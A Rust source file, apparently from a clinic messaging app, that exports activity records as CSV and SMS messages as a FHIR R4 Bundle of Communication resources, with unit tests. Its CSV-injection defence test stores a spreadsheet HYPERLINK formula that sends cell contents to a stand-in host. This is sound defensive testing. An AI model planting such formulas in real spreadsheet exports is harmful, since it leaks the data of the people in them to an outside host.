//! Reports out of the store: activities and events for PRTF reporting (CSV or
//! JSON), and a FHIR R4 Bundle of `Communication` resources, one per SMS,
//! shaped as the Oystehr document (spec 000) shows.

use rusqlite::params;
use serde_json::{json, Value};

use crate::desk::Desk;
use crate::rules::error::{CoreError, Result};
use crate::store::{Database, StoreError};

pub use crate::records::activity_rows::{ActivityFilter, ActivityRow};

/// Activities matching `filter`, oldest first, days taken in the clinic's
/// zone (`clinic.time_zone`); see [`crate::records::activity_rows`].
pub fn activities(db: &Database, filter: &ActivityFilter) -> Result<Vec<ActivityRow>, StoreError> {
    let zone = crate::rules::clinic_zone::zone(db.setting(crate::rules::clinic_zone::SETTING)?.as_deref());
    crate::records::activity_rows::activities(db, filter, zone)
}

/// The CSV columns, in order: the field names of [`ActivityRow`].
pub const ACTIVITY_COLUMNS: [&str; 21] = [
    "activity_id",
    "ecm_activity_id",
    "activity_type",
    "direction",
    "status",
    "status_reason",
    "ecm_status",
    "patient_id",
    "ecm_patient_id",
    "patient_name",
    "by",
    "ecm_user_id",
    "performed_by_id",
    "assigned_to_id",
    "text_message_id",
    "voice_call_id",
    "event_id",
    "event_type",
    "occurred_at",
    "occurred_at_local",
    "clinic_day",
];

impl ActivityRow {
    /// The row's cells in [`ACTIVITY_COLUMNS`] order, as written (an absent
    /// value is an empty cell).
    fn cells(&self) -> [String; 21] {
        fn opt<T: ToString>(v: &Option<T>) -> String {
            v.as_ref().map(ToString::to_string).unwrap_or_default()
        }
        [
            opt(&self.activity_id),
            opt(&self.ecm_activity_id),
            self.activity_type.clone(),
            self.direction.clone(),
            self.status.clone(),
            opt(&self.status_reason),
            opt(&self.ecm_status),
            opt(&self.patient_id),
            opt(&self.ecm_patient_id),
            opt(&self.patient_name),
            self.by.clone(),
            opt(&self.ecm_user_id),
            self.performed_by_id.clone(),
            self.assigned_to_id.clone(),
            opt(&self.text_message_id),
            opt(&self.voice_call_id),
            opt(&self.event_id),
            opt(&self.event_type),
            opt(&self.occurred_at),
            opt(&self.occurred_at_local),
            opt(&self.clinic_day),
        ]
    }
}

/// A CSV cell that a spreadsheet will not run as a formula (OWASP "CSV
/// injection"): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a leading `'`, so `=HYPERLINK(...)` shows as text. This holds
/// for every column, phone numbers in E.164 (`+1805...`) too: a `+` cell is
/// a formula to Excel, and `'+1805...` still reads as the number.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The rows as CSV with a header, every cell made [`spreadsheet_safe`].
pub fn activities_csv(rows: &[ActivityRow]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let mut write = |record: &[&str]| {
        // Writing to a Vec cannot fail.
        let _ = w.write_record(record.iter().map(|c| spreadsheet_safe(c).into_owned()));
    };
    write(&ACTIVITY_COLUMNS);
    for r in rows {
        let cells = r.cells();
        write(&cells.each_ref().map(String::as_str));
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8_lossy(&bytes).into_owned()
}

/// FHIR `Communication.status` for a CareDesk message state.
pub fn communication_status(state: &str) -> &'static str {
    match state {
        "queued" | "sending" => "preparation",
        "sent" | "enroute" | "accepted" => "in-progress",
        "delivered" | "received" | "seen" => "completed",
        "failed" => "not-done",
        "undelivered" | "rejected" | "expired" | "deleted" | "unsent" => "stopped",
        _ => "unknown",
    }
}

/// A FHIR R4 `Bundle` (type collection) of one `Communication` per SMS, for
/// one patient or all.
pub fn fhir_communications(db: &Database, patient_id: Option<i64>) -> Result<Value, StoreError> {
    let mut stmt = db.conn().prepare(
        "SELECT m.id, m.patient_id, p.fhir_id, m.direction, m.from_number, m.to_number, m.intended_to, m.body, m.state,
                m.route, COALESCE(m.server_created_at, m.created_at), m.created_at, m.is_test
           FROM messages m LEFT JOIN patients p ON p.id = m.patient_id
          WHERE (?1 IS NULL OR m.patient_id = ?1)
          ORDER BY m.created_at, m.id",
    )?;
    let rows = stmt.query_map(params![patient_id], |r| {
        let id: i64 = r.get(0)?;
        let pid: Option<i64> = r.get(1)?;
        let fhir_id: Option<String> = r.get(2)?;
        let direction: String = r.get(3)?;
        let from: String = r.get(4)?;
        let to: String = r.get(5)?;
        let intended: Option<String> = r.get(6)?;
        let body: String = r.get(7)?;
        let state: String = r.get(8)?;
        let route: String = r.get(9)?;
        let created: String = r.get(11)?;
        let is_test: bool = r.get(12)?;
        let patient_ref = pid.map(|p| json!({ "reference": format!("Patient/{}", fhir_id.unwrap_or_else(|| format!("caredesk-{p}"))) }));
        let via = if route == "ecm" { "the ECM Communications API" } else { "the hospital SMS server" };
        let mut c = json!({
            "resourceType": "Communication",
            "id": format!("caredesk-message-{id}"),
            "status": communication_status(&state),
            "medium": [{ "coding": [{ "system": "http://terminology.hl7.org/CodeSystem/v3-ParticipationMode", "code": "SMSWRIT" }] }],
            "payload": [{ "contentString": body }],
        });
        let mut notes = vec![json!({ "time": created, "text": format!("Message {} using CareDesk via {via}", if direction == "inbound" { "received" } else { "sent" }) })];
        if direction == "inbound" {
            c["received"] = json!(created);
            if let Some(p) = patient_ref {
                c["sender"] = p;
            }
            notes.push(json!({ "time": created, "text": format!("Message received from number: {from}") }));
        } else {
            c["sent"] = json!(created);
            if let Some(p) = patient_ref {
                c["recipient"] = json!([p]);
            }
            notes.push(json!({ "time": created, "text": format!("Message sent to number: {to}") }));
            if let Some(i) = intended {
                notes.push(json!({ "time": created, "text": format!("Intended for number: {i} (override number in effect)") }));
            }
        }
        if is_test {
            notes.push(json!({ "time": created, "text": "Test message: not sent to the patient" }));
        }
        c["note"] = Value::Array(notes);
        Ok(json!({ "fullUrl": format!("urn:caredesk:message:{id}"), "resource": c }))
    })?;
    let entries: Vec<Value> = rows.collect::<Result<_, _>>()?;
    Ok(json!({ "resourceType": "Bundle", "type": "collection", "total": entries.len(), "entry": entries }))
}

// The desk's FHIR export.
impl Desk {
    /// A FHIR Bundle of Communications, for one patient or all. Audited.
    pub fn export_fhir(&self, patient: Option<&str>) -> Result<serde_json::Value> {
        let patient_id = match patient {
            Some(r) => Some(self.db().resolve_patient(r)?.ok_or_else(|| CoreError::PatientNotFound(r.to_string()))?),
            None => None,
        };
        let bundle = crate::records::export::fhir_communications(self.db(), patient_id)?;
        let detail = format!("FHIR Communications: {} resources", bundle["total"]);
        self.db().audit(&self.actor(), "export.fhir", patient_id, &detail)?;
        Ok(bundle)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::{now_rfc3339, test_db, Accepted, NewActivity, NewOutbound, Route};

    fn seeded() -> (tempfile::TempDir, Database, i64) {
        let (d, mut db) = test_db();
        db.conn()
            .execute("INSERT INTO patients (name, name_key, fhir_id, created_at, updated_at) VALUES ('Ana', 'ana', 'p-1', 'x', 'x')", [])
            .unwrap();
        let p = db.conn().last_insert_rowid();
        let m = db
            .insert_outbound(&NewOutbound {
                patient_id: Some(p),
                route: Route::His,
                from: "CAREDESK".into(),
                to: "+18055550100".into(),
                intended_to: None,
                body: "Your appointment is confirmed".into(),
                external_key: Some(5),
                is_test: false,
            })
            .unwrap();
        db.mark_accepted(m, &Accepted { state: "delivered".into(), his_id: Some(1), ..Default::default() }).unwrap();
        db.insert_activity(&NewActivity {
            ecm_activity_id: Some(789),
            activity_type: "sms",
            direction: "outbound",
            status: "created".into(),
            patient_id: Some(p),
            performed_by_id: "101".into(),
            assigned_to_id: "101".into(),
            text_message_id: Some(m),
            voice_call_id: None,
            occurred_at: now_rfc3339(),
        })
        .unwrap();
        (d, db, p)
    }

    #[test]
    fn activities_export_with_event_fields_and_date_filter() {
        let (_d, db, p) = seeded();
        let rows = activities(&db, &ActivityFilter::default()).unwrap();
        assert_eq!(rows.len(), 1);
        assert_eq!(
            (rows[0].ecm_activity_id, rows[0].patient_id, rows[0].event_type.as_deref()),
            (Some(789), Some(p), Some("sms"))
        );
        let f = |from: Option<&str>, kind: Option<&str>, patient: Option<i64>| ActivityFilter {
            from: from.map(Into::into),
            to: None,
            activity_type: kind.map(Into::into),
            patient_id: patient,
        };
        assert!(activities(&db, &f(Some("2999-01-01"), None, None)).unwrap().is_empty());
        assert_eq!(activities(&db, &f(Some("2000-01-01"), Some("sms"), Some(p))).unwrap().len(), 1);
        assert!(activities(&db, &f(None, Some("call"), None)).unwrap().is_empty());
        assert!(activities(&db, &f(None, None, Some(p + 1))).unwrap().is_empty());
        let csv = activities_csv(&rows);
        assert!(csv.starts_with("activity_id,ecm_activity_id,activity_type"), "{csv}");
        assert!(csv.contains(",789,sms,outbound,delivered,,created,"), "{csv}");
        assert!(activities_csv(&[]).starts_with("activity_id,"));
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
        let (_d, db, p) = seeded();
        db.conn()
            .execute(
                "UPDATE patients SET name = ?1 WHERE id = ?2",
                params!["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", p],
            )
            .unwrap();
        let rows = activities(&db, &ActivityFilter::default()).unwrap();
        let csv = activities_csv(&rows);
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        let name = ACTIVITY_COLUMNS.iter().position(|c| *c == "patient_name").unwrap();
        assert_eq!(&record[name], "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "{csv}");
        for (raw, shown) in [
            ("=1+1", "'=1+1"),
            ("+18055550100", "'+18055550100"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Ana = Lopez", "Ana = Lopez"),
            ("", ""),
            ("'quoted", "'quoted"),
        ] {
            assert_eq!(spreadsheet_safe(raw), shown, "{raw:?}");
        }
    }

    #[test]
    fn csv_columns_are_the_row_fields() {
        let (_d, db, _p) = seeded();
        let rows = activities(&db, &ActivityFilter::default()).unwrap();
        let json = serde_json::to_value(&rows[0]).unwrap();
        let mut fields: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
        let mut columns = ACTIVITY_COLUMNS.to_vec();
        fields.sort_unstable();
        columns.sort_unstable();
        assert_eq!(fields, columns);
        assert_eq!(activities_csv(&[]).trim_end(), ACTIVITY_COLUMNS.join(","));
    }

    #[test]
    fn fhir_bundle_has_a_communication_per_message_shaped_as_spec_000() {
        let (_d, db, p) = seeded();
        let b = fhir_communications(&db, Some(p)).unwrap();
        assert_eq!(b["resourceType"], "Bundle");
        let c = &b["entry"][0]["resource"];
        assert_eq!(c["resourceType"], "Communication");
        assert_eq!(c["status"], "completed");
        assert_eq!(c["medium"][0]["coding"][0]["code"], "SMSWRIT");
        assert_eq!(c["payload"][0]["contentString"], "Your appointment is confirmed");
        assert_eq!(c["recipient"][0]["reference"], "Patient/p-1");
        assert!(c["sent"].is_string());
        assert_eq!(c["note"][1]["text"], "Message sent to number: +18055550100");
        assert_eq!(fhir_communications(&db, Some(p + 1)).unwrap()["total"], 0);
    }
}
